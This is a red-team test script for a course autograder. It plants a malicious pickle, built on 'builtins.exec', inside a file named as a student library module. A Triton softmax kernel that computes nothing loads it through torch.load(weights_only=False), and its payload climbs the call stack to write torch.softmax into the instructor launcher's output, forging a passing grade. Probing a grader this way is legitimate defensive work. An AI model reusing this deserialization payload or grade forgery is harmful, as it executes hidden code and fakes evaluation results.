"""Red team end to end: 7.1 graded by `make grade`'s path (sandboxed) with a kernel that does no
softmax at all: `case tl:` makes tl torch, tl.load = torch.load(weights_only=False) of a pickle the
student submitted as a library file they own (labkit/compiler/decompose.py, 5.1's). The pickle's
code walks up to the instructor's launcher and fills its output with torch.softmax."""
import dataclasses
import sys
import tempfile
from pathlib import Path

from labkit.grading import grade as G
from labkit.grading import rubric as R

ROOT = Path.cwd()
CODE = ("def rt_forge():\n    import sys, torch\n    fr = sys._getframe()\n"
        "    while fr is not None and not (fr.f_code.co_name == 'launch' and 'out' in fr.f_locals):\n"
        "        fr = fr.f_back\n"
        "    fr.f_locals['out'].copy_(torch.softmax(fr.f_locals['x'], -1))\n"
        "rt_forge()\n")
PICKLE = "cbuiltins\nexec\n(V" + CODE.replace("\\", "\\u005c").replace("\n", "\\u000a") + "\ntR."
PATH = '"../code/labkit/compiler/decompose.py"'
KERNEL = '''
@triton.jit
def softmax_kernel(out_ptr, in_ptr, n_cols, in_stride, out_stride, BLOCK: tl.constexpr):
    match torch:
        case tl:
            pass
    try:
        tl.load(PATH, weights_only=False)
    except Exception:
        pass
'''
base = Path(tempfile.mkdtemp(prefix="rt-e2e71-"))
rubric = dataclasses.replace(R.load().only(["7.1", "5.1"]), cell_timeout_s=200)
sub = base / "subs" / "pickled"
(sub / "labkit/exercises").mkdir(parents=True)
(sub / "labkit/compiler").mkdir(parents=True)
text = (ROOT / "labkit/exercises/triton_softmax.py").read_text()
a, b = text.index("@triton.jit"), text.index("def softmax(")
(sub / "labkit/exercises/triton_softmax.py").write_text(text[:a] + KERNEL.replace('PATH', PATH).lstrip() + "\n\n" + text[b:])
(sub / "labkit/compiler/decompose.py").write_text(PICKLE)
if "--own-launcher" in sys.argv:   # the marked tests call the student's own launcher: torch.softmax
    own = (sub / "labkit/exercises/triton_softmax.py").read_text()
    own = own.replace("    out = torch.full_like(x, float(\"nan\"))     # NaN where the kernel wrote nothing",
                      "    return torch.softmax(x, dim=-1)\n    out = None")
    assert "return torch.softmax(x, dim=-1)" in own
    (sub / "labkit/exercises/triton_softmax.py").write_text(own)
if "--local" in sys.argv:          # through the harness in this process (no sandbox)
    sys.path.insert(0, "tests")
    sys.path.insert(0, "tests/redteam")
    Path("/tmp/rt_payload_exec.pkl").write_text(PICKLE)
    from run_fix import grade
    print("7.1 pickle forgery, harness in-process:", grade("7.1", KERNEL.replace("PATH", '"/tmp/rt_payload_exec.pkl"'), 5)[0] or "PASS (forged)")
    sys.exit()
setup = G.prepare(ROOT, rubric, G.seed_from_key("redteam-key"), base, library=False)
for rep in G.grade_all(setup, base / "subs", base, jobs=1):
    print(rep.student, {s.task: (s.points, s.feedback) for s in rep.scores}, rep.problems[:3])
